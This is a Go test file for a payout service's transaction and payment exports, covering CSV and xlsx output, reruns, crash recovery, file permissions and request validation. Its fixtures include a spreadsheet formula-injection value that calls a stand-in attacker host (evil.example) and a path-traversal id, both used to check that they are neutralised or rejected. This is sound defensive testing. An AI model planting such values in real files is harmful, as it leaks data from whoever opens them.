package publisher_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/jmoiron/sqlx"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/payrun/payrun/internal/fielderr"
	"github.com/payrun/payrun/ledger"
	"github.com/payrun/payrun/payout"
	"github.com/payrun/payrun/payout/publisher"
	"github.com/payrun/payrun/reports"
)

// hostile are transaction ids a spreadsheet would evaluate: the import
// takes them (any text without control characters).
var hostile = []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "@SUM(1+1)"}

// A small simulated marketplace, and two hostile ids imported for its
// busiest publisher: the transactions export (CSV) has exactly the rows of
// the Transactions pages over the same months, in their order, hostile
// values neutralised; the workbook has as many rows, hostile values as
// plain text; the payments export has the Payments pages' rows. Re-running
// a done export does nothing; re-running one a crash left running rewrites
// the same bytes. Another account cannot see it; bad requests name the
// field.
func TestExportsOfASimulatedMarketplace(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	s := simulated(t, 11, 20, 3)
	database, clock := s.DB, s.Clock

	// The publisher with the most payments, then lines.
	var busiest struct {
		ID       int64  `db:"id"`
		SellerID string `db:"seller_id"`
	}
	require.NoError(t, database.Get(&busiest, `
		SELECT a.id, a.seller_id FROM accounts a
		ORDER BY (SELECT count(*) FROM payments p WHERE p.account_id = a.id) DESC,
		         (SELECT count(*) FROM earnings_lines l WHERE l.account_id = a.id) DESC, a.id LIMIT 1`))
	importHostile(t, database, clock.Now, busiest.SellerID)
	var other int64
	require.NoError(t, database.Get(&other, `SELECT min(id) FROM accounts WHERE id <> $1`, busiest.ID))

	var months struct {
		From time.Time `db:"first"`
		To   time.Time `db:"last"`
	}
	require.NoError(t, database.Get(&months, `SELECT min(available_at) AS first, max(available_at) AS last FROM earnings_lines WHERE account_id = $1`, busiest.ID))
	from, to := payout.MonthName(months.From.UTC()), payout.MonthName(months.To.UTC())

	out := t.TempDir()
	var enqueued []string
	svc := &publisher.Service{DB: database, Store: s.Store, Clock: clock.Now, OutDir: out,
		Policy: func() (payout.Policy, error) { return payout.DefaultPolicy(), nil },
		Enqueue: func(ctx context.Context, tx pgx.Tx, id string, at time.Time) error {
			// In the transaction that writes the export.
			var status string
			if err := tx.QueryRow(ctx, `SELECT status FROM payout_exports WHERE id = $1`, id).Scan(&status); err != nil {
				return err
			}
			if status != publisher.ExportQueued || !at.Equal(clock.Now().Truncate(time.Microsecond)) {
				return fmt.Errorf("enqueued %s %s at %s", id, status, at)
			}
			enqueued = append(enqueued, id)
			return nil
		}}

	// Transactions, CSV: the pages' rows.
	started, err := svc.StartExport(ctx, busiest.ID, publisher.ExportRequest{Kind: "transactions", Format: "csv", From: from, To: to}, "user:test")
	require.NoError(t, err)
	require.Equal(t, []string{started.ID}, enqueued)
	require.Equal(t, publisher.ExportQueued, started.Status)
	_, _, err = svc.OpenExport(ctx, busiest.ID, started.ID)
	require.ErrorIs(t, err, publisher.ErrExportNotReady)
	done, err := svc.RunExport(ctx, started.ID)
	require.NoError(t, err)
	require.Equal(t, publisher.ExportDone, done.Status)
	require.Equal(t, filepath.Join(out, "exports", busiest.SellerID, started.ID+".csv"), done.File)
	ownerOnly(t, done.File)

	var pages []publisher.Transaction
	cursor := ""
	for {
		page, next, err := svc.Transactions(ctx, busiest.ID, publisher.TransactionFilter{From: from, To: to}, cursor, 50)
		require.NoError(t, err)
		pages = append(pages, page...)
		if next == "" {
			break
		}
		cursor = next
	}
	var lines int
	require.NoError(t, database.Get(&lines, `SELECT count(*) FROM earnings_lines WHERE account_id = $1`, busiest.ID))
	require.Len(t, pages, lines, "the range holds every line of the account")
	records := readCSV(t, done.File)
	require.Equal(t, publisher.TransactionColumns, records[0])
	require.Len(t, records[1:], len(pages))
	require.EqualValues(t, len(pages), done.Rows)
	states := map[string]int{}
	for i, line := range pages {
		text := reports.CSVText
		require.Equal(t, []string{text(line.TransactionID), line.RevenueSource, line.TransactionType, line.Market, strconv.FormatBool(line.USSourced),
			line.TransactionAt.Format(time.RFC3339Nano), line.EligibleAt.Format(time.RFC3339Nano), line.AvailableAt.Format(time.RFC3339Nano),
			line.Amount, line.State, line.Cycle, line.PaymentID, line.Withheld}, records[i+1], "row %d", i+1)
		states[line.State]++
	}
	require.Greater(t, states[publisher.LineSettled]+states[publisher.LineSent]+states[publisher.LineReturned], 0, "paid lines: %v", states)
	for _, id := range hostile {
		require.Contains(t, csvColumn(records, 0), "'"+id, "neutralised in the CSV")
	}

	// Done: a re-run does nothing; the file opens for its account only.
	again, err := svc.RunExport(ctx, started.ID)
	require.NoError(t, err)
	require.Equal(t, done, again)
	file, opened, err := svc.OpenExport(ctx, busiest.ID, started.ID)
	require.NoError(t, err)
	body, err := io.ReadAll(file)
	require.NoError(t, file.Close())
	require.NoError(t, err)
	require.Equal(t, done.SHA256, digest(body))
	require.EqualValues(t, len(body), opened.Size)
	_, err = svc.Export(ctx, other, started.ID)
	require.ErrorIs(t, err, publisher.ErrUnknownExport)
	_, _, err = svc.OpenExport(ctx, other, started.ID)
	require.ErrorIs(t, err, publisher.ErrUnknownExport)
	_, err = svc.Export(ctx, busiest.ID, "../../etc/passwd")
	require.ErrorIs(t, err, publisher.ErrUnknownExport)

	// Transactions, xlsx, written in this process (the CLI's way): as many
	// rows, hostile ids as text, amounts as numbers.
	book, err := svc.ExportNow(ctx, busiest.ID, publisher.ExportRequest{Kind: "transactions", Format: "xlsx", From: from, To: to}, "cli:test")
	require.NoError(t, err)
	require.Equal(t, publisher.ExportDone, book.Status)
	rows := readSheet(t, book.File, "Transactions")
	require.Len(t, rows, len(pages)+1, "a header and one row per line")
	for i, line := range pages {
		require.Equal(t, line.TransactionID, rows[i+1][0], "row %d", i+1)
		amount, err := strconv.ParseFloat(rows[i+1][8], 64)
		require.NoError(t, err, "row %d amount %q", i+1, rows[i+1][8])
		require.InDelta(t, mustFloat(t, line.Amount), amount, 1e-9)
	}
	f, err := excelize.OpenFile(book.File)
	require.NoError(t, err)
	for i, line := range pages {
		if line.TransactionID == hostile[0] {
			formula, err := f.GetCellFormula("Transactions", fmt.Sprintf("A%d", i+2))
			require.NoError(t, err)
			require.Empty(t, formula, "a hostile id is text, not a formula")
		}
	}
	require.NoError(t, f.Close())

	// A crash after the file was published, before the row said done: the
	// next attempt writes the same bytes again, atomically.
	for _, e := range []publisher.Export{done, book} {
		_, err = database.Exec(`UPDATE payout_exports SET status = 'running', file_sha256 = '', finished_at = NULL WHERE id = $1`, e.ID)
		require.NoError(t, err)
		rerun, err := svc.RunExport(ctx, e.ID)
		require.NoError(t, err)
		require.Equal(t, e.SHA256, rerun.SHA256, "%s: same bytes", e.Format)
		require.Equal(t, 2, rerun.Attempts)
		body, err := os.ReadFile(e.File)
		require.NoError(t, err)
		require.Equal(t, e.SHA256, digest(body))
	}
	entries, err := os.ReadDir(filepath.Join(out, "exports", busiest.SellerID))
	require.NoError(t, err)
	require.Len(t, entries, 2, "one file per export, no temporary file left")

	// Payments: the Payments pages' rows of the cycles in the range.
	var payments []publisher.Payment
	page, _, err := svc.Payments(ctx, busiest.ID, publisher.PaymentFilter{}, "", publisher.MaxPageSize)
	require.NoError(t, err)
	for _, p := range page {
		if p.Cycle >= from && p.Cycle <= to {
			payments = append(payments, p)
		}
	}
	require.NotEmpty(t, payments)
	t.Logf("%s %s..%s: %d lines %v, %d payments", busiest.SellerID, from, to, len(pages), states, len(payments))
	paid, err := svc.ExportNow(ctx, busiest.ID, publisher.ExportRequest{Kind: "payments", Format: "csv", From: from, To: to}, "cli:test")
	require.NoError(t, err)
	records = readCSV(t, paid.File)
	require.Equal(t, publisher.PaymentColumns, records[0])
	require.Len(t, records[1:], len(payments))
	for i, p := range payments {
		record := records[i+1]
		require.Equal(t, []string{p.PaymentID, p.Cycle, p.ScheduledDate, p.PaymentDate, p.Method, p.Rail, p.Destination, p.AmountUSD, p.Withheld,
			p.Rate, p.RateReason, p.Currency, p.AmountInCurrency, p.FXRate, p.Status, p.ReturnedUSD, p.ReturnReason}, record[:17], "payment %s", p.PaymentID)
		require.Equal(t, len(p.Items), strings.Count(record[17], " USD "), "payment %s items %q", p.PaymentID, record[17])
	}
	paidBook, err := svc.ExportNow(ctx, busiest.ID, publisher.ExportRequest{Kind: "payments", Format: "xlsx", From: from, To: to}, "cli:test")
	require.NoError(t, err)
	require.Len(t, readSheet(t, paidBook.File, "Payments"), len(payments)+1)

	// Bad requests name the field; an unknown account is one.
	good := publisher.ExportRequest{Kind: "payments", Format: "csv", From: "2026-01", To: "2026-12"}
	for field, request := range map[string]publisher.ExportRequest{
		"kind":    {Format: "csv", From: "2026-01", To: "2026-12"},
		"format":  {Kind: "payments", Format: "pdf", From: "2026-01", To: "2026-12"},
		"from":    {Kind: "payments", Format: "csv", From: "2026-13", To: "2026-12"},
		"to":      {Kind: "transactions", Format: "xlsx", From: "2026-01", To: "2025-12"},
		"to ":     {Kind: "transactions", Format: "xlsx", From: "2026-01", To: "2028-01"},
		"from  ":  {Kind: "transactions", Format: "xlsx", To: "2026-01"},
		"kind   ": {Kind: "lines", Format: "csv", From: "2026-01", To: "2026-12"},
	} {
		_, err := svc.StartExport(ctx, busiest.ID, request, "user:test")
		var fieldErr *fielderr.Error
		require.True(t, errors.As(err, &fieldErr), "%s: %v", field, err)
		require.Equal(t, strings.TrimSpace(field), fieldErr.Path, "%+v: %v", request, err)
	}
	_, err = svc.StartExport(ctx, busiest.ID, publisher.ExportRequest{Kind: "payments", Format: "csv", From: "2026-01", To: "2027-12"}, "user:test")
	require.NoError(t, err, "24 months is the most")
	_, err = svc.StartExport(ctx, 1<<40, good, "user:test")
	require.ErrorIs(t, err, publisher.ErrUnknownAccount)
}

// importHostile imports the hostile ids as lines of seller, available in
// ten days (unprocessed).
func importHostile(t *testing.T, database *sqlx.DB, now func() time.Time, seller string) {
	t.Helper()
	var file strings.Builder
	w := csv.NewWriter(&file)
	require.NoError(t, w.Write([]string{"transaction_id", "seller_id", "revenue_source", "transaction_type", "market", "transaction_at", "amount", "eligible_at"}))
	for _, id := range hostile {
		require.NoError(t, w.Write([]string{id, seller, "app", "purchase", "US", now().Add(-time.Hour).Format(time.RFC3339), "1.25",
			now().Add(10 * 24 * time.Hour).Format(time.RFC3339)}))
	}
	w.Flush()
	_, err := ledger.Import(context.Background(), database, func() (io.ReadCloser, error) { return io.NopCloser(strings.NewReader(file.String())), nil },
		ledger.ImportOptions{SourceName: "hostile", HoldingPeriod: 30 * 24 * time.Hour, Clock: now})
	require.NoError(t, err)
}

func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	body, err := os.ReadFile(path)
	require.NoError(t, err)
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	require.NoError(t, err)
	return records
}

func csvColumn(records [][]string, column int) []string {
	values := make([]string, len(records))
	for i, record := range records {
		values[i] = record[column]
	}
	return values
}

func readSheet(t *testing.T, path, sheet string) [][]string {
	t.Helper()
	f, err := excelize.OpenFile(path)
	require.NoError(t, err)
	defer func() { _ = f.Close() }()
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	require.NoError(t, err)
	return rows
}

func ownerOnly(t *testing.T, path string) {
	t.Helper()
	info, err := os.Stat(path)
	require.NoError(t, err)
	require.Equal(t, os.FileMode(0o600), info.Mode().Perm(), path)
	info, err = os.Stat(filepath.Dir(path))
	require.NoError(t, err)
	require.Equal(t, os.FileMode(0o700), info.Mode().Perm(), filepath.Dir(path))
}

func digest(body []byte) string {
	sum := sha256.Sum256(body)
	return hex.EncodeToString(sum[:])
}

func mustFloat(t *testing.T, s string) float64 {
	t.Helper()
	v, err := strconv.ParseFloat(s, 64)
	require.NoError(t, err)
	return v
}
